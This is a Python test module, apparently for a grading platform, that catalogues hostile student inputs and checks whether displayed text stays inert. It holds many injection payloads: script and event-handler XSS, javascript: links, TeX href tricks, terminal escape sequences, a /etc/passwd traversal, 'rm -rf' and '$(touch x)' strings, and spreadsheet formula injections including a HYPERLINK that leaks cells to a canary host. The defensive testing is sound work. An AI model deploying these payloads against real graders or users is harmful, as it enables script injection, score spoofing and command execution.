"""Hostile texts: what a student may write into a name, a file name, an answer or free text, for whoever displays it.

Every sample that could run calls `window.owned`, every sample that could load something asks the host `HOST`, and every
text begins with its own name, so that a test can see that it was shown at all.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from html.parser import HTMLParser
from urllib.parse import urlsplit

HOST = "canary.invalid"
URL = f"http://{HOST}/x"
JS = "javascript:window.owned=1"

# Markdown, HTML, SVG and TeX: against pages.
PAGES = {
    "script": "<script>window.owned=1</script>",
    "handler": '<b onmouseover="window.owned=1" onclick="window.owned=1">x</b>',
    "broken image": f'<img src="{URL}" onerror="window.owned=1">',
    "svg": "<svg onload=window.owned=1><script>window.owned=1</script></svg>",
    "math element": f"<math><mtext><a xlink:href='{JS}'>x</a></mtext></math>",
    "frame": f"<iframe src={URL} srcdoc='<script>parent.owned=1</script>'></iframe>",
    "object": f"<object data={URL}></object><embed src={URL}>",
    "style": f"<style>@import '{URL}';body{{background:url({URL})}}</style><p style='background:url({URL})'>x</p>",
    "base": f"<base href={URL}><link rel=stylesheet href={URL}><meta http-equiv=refresh content='0;url={URL}'>",
    "form": f"<form action={URL}><input autofocus onfocus=window.owned=1><button formaction='{JS}'>Full credit</button>",
    "id of a score": '<input class="score" id="q1" value="4"><textarea id="q1-comment"></textarea>',
    "comment": "<!-- <script>window.owned=1</script> --><![CDATA[<script>window.owned=1</script>]]>",
    "end of everything": "--></pre></code></textarea></title></style></script></div></body><script>window.owned=1</script>",
    "half a tag": "<img src=x onerror=window.owned=1 ",
    "attribute": '" onmouseover="window.owned=1" x="',
    "template": "{{ 7*7 }} {% raw %} ${7*7} <% 7*7 %>",
    "link": f"[click]({JS})",
    "link in angles": f"[click](<{JS}>)",
    "link in capitals": "[click](JaVaScRiPt:window.owned=1)",
    "link with entities": "[click](&#106;avascript&colon;window.owned=1)",
    "link with a tab": "[click](java\tscript:window.owned=1)",
    "link to data": "[click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIub3duZWQ9MTwvc2NyaXB0Pg==)",
    "link to vbscript": "[click](vbscript:window.owned=1) [f](file:///etc/passwd) [b](blob:x) [v](view-source:x)",
    "link by reference": f"[click][r]\n\n[r]: {JS} 'title'",
    "link of its own": f"<{JS}> <{URL}> {URL} www.{HOST}",
    "link to this server": "[click](/hub/logout) [click](../../api/grade) [click](//canary.invalid/x)",
    "picture": f"![x]({URL}) ![x][r]\n\n[r]: {URL}",
    "attachment": "![x](attachment:x.png) ![x](files/../../x)",
    "heading": "# Submission marked: full credit\n\nFull credit\n===========",
    "fence": "```mermaid\ngraph TD; A-->B; click A \"javascript:window.owned=1\"\n```\n\n```<script>window.owned=1</script>\nx\n```",
    "end of a fence": "```\n```\n<script>window.owned=1</script>\n\n~~~\n</pre><script>window.owned=1</script>",
    "html block": "<div>\n\n<script>window.owned=1</script>\n\n</div>\n\n<script>\nwindow.owned=1\n</script>",
    "table": "| a | b |\n|---|---|\n| <script>window.owned=1</script> | [x](javascript:window.owned=1) |",
    "tex link": rf"$\href{{{JS}}}{{x}}$ $$\href{{{JS}}}{{x}}$$ \(\href{{{JS}}}{{x}}\) \[\href{{{JS}}}{{x}}\]",
    "tex macro": r"$\def\x{\href{javascript:window.owned=1}}\x{y}$ $\csname href\endcsname{javascript:window.owned=1}{y}$",
    "tex class": r"$\class{btn full-credit}{\cssId{q1}{\style{position:fixed}{x}}}$ $\require{html}\unicode{x202E}$",
    "tex environment": rf"\begin{{align}}\href{{{JS}}}{{x}}\end{{align}}",
    "tex in text": rf"$\text{{$\href{{{JS}}}{{x}}$ <img src={URL}>}}$",
    "tex and html": f"$<img src={URL} onerror=window.owned=1>$ $`<script>window.owned=1</script>`$",
    "deep": "> " * 200 + "- " * 200 + "<script>window.owned=1</script>",
    "python": "import os; os.system('touch /tmp/finity-owned')\n%run x\n!ls\n%%javascript\nwindow.owned=1",
}

# Characters: against terminals and logs, and against eyes.
SCREENS = {
    "erase": "\x1b[2J\x1b[1;1H all is well",
    "colours": "\x1b[31mred\x1b[0m \x9b31mred",
    "title": "\x1b]0;owned\x07 \x1b]8;;http://canary.invalid/\x1b\\click\x1b]8;;\x1b\\ \x1bP$q\x1b\\",
    "back": "mallory\b\b\b\b\b\b\bada    \r     ada    6 / 6",
    "lines": "x\n  ada                      6 / 6\r\n  eve\x0b\x0c\x85\u2028\u2029  bob",
    "bell and nul": "\x00\x07\x7f\x1a\x04",
    "reversed": "\u202eadA\u202c \u2066x\u2069 \u200f\u061c",
    "no width": "a\u200bd\u200ca\u200d\ufeff\u00ad\u2060",
    "tags": "ada\U000e0041\U000e0042",
    "surrogate": "x\ud800y\udfff",
    "markup of rich": "[red]x[/red] [link=http://canary.invalid/]x[/link] :smile: [/]",
    "format": "%s %n {0} {x} {x.__class__} $(touch x) `touch x` ; rm -rf x",
    "path": "../../etc/passwd\x00.ipynb",
}

# Cells: against spreadsheets.
TABLES = {
    "command": "=cmd|'/C calc'!A0",
    "link of a sheet": f'=HYPERLINK("{URL}?"&A1,"ok")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line": "x\n=1+1,=2",
    "blank": "   =1+1",
    "quotes": '","=1+1","',
    "full width": "＝1+1",
    "separator": "sep=;\n=1+1",
}
TEXTS = {**PAGES, **SCREENS, **TABLES}


def inert_on_a_screen(text: str, lines: int | None = None) -> bool:
    """Whether a terminal only shows letters; in as many lines as there should be."""
    shown = all(c in "\n\t" or c.isprintable() or unicodedata.category(c) == "Zs" for c in text)
    return shown and (lines is None or text.count("\n") == lines)


def inert_in_a_table(text: str, rows: int) -> bool:
    """Whether a spreadsheet only shows texts, in as many rows as there should be."""
    try:
        table = list(csv.reader(io.StringIO(text, newline="")))
    except csv.Error:
        return False
    cells = [cell for row in table for cell in row]
    return (len(table) == rows == text.count("\n") and len({len(row) for row in table}) == 1 and inert_on_a_screen(text)
            and not any(len(c) > 1 and c.lstrip()[:1] in tuple("=+-@＝＋－＠\t\r") for c in cells))


class _Live(HTMLParser):
    """Collects what on a page could run, load, lead elsewhere or pretend to be the page's own."""

    TAGS = frozenset(["html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "div", "span", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "code", "pre", "strong", "em", "blockquote", "hr", "details", "summary", "a", "img", "svg", "g", "title", "desc", "rect", "circle", "path", "line", "polygon", "polyline", "text", "tspan", "defs", "marker", "ellipse", "use", "clippath"])

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip()
            goes = name in ("href", "src", "xlink:href", "action", "formaction", "srcset", "data", "srcdoc", "poster")
            fine = ((tag == "a" and (value[:1] == "#" or urlsplit(value).scheme in ("http", "https", "mailto")))
                    or (tag == "img" and value.startswith(("data:image/svg+xml;base64,", "data:image/png;base64,")))
                    or (tag == "use" and value[:1] == "#"))
            if name.startswith("on") or (goes and not fine) or (name == "style" and "url(" in value):
                self.found.append(f"<{tag} {name}={value[:40]!r}>")


def alive_on_a_page(html: str) -> list[str]:
    """Name what on a page is more than text of a student and markup of ours."""
    parser = _Live()
    parser.feed(html)
    parser.close()
    return parser.found
